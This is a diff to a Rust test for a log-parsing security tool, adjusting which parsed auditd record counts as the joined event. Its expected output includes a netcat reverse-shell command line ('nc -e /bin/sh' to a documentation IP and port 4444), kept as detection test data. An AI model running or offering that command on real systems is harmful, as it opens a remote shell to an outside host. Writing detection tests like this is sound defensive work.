@@ -183,13 +183,15 @@ Nov 26 10:00:00 web01 sshd[1]: Failed password for root from 203.0.113.5 port 22
 
 #[test]
 fn parse_and_rules_test_join_audit_records() {
-    // `sen parse`: the records, the joined event right after the EOE, the next line.
+    // `sen parse`: the records, the joined event right after the PROCTITLE (the kernel's last
+    // record of the event before EOE), the EOE, the next line.
     let (code, out, err) = sen(&["parse"], NETCAT);
     assert_eq!(code, 0, "{err}");
     let events: Vec<serde_json::Value> =
         out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
     assert_eq!(events.len(), 8);
-    let joined = &events[6];
+    let joined = &events[5];
+    assert_eq!(events[6]["auditd.message_type"], "eoe");
     assert_eq!(joined["event.dataset"], "auditd.event", "{joined}");
     assert_eq!(joined["process.executable"], "/usr/bin/nc");
     assert_eq!(joined["process.command_line"], "nc -e /bin/sh 203.0.113.5 4444");
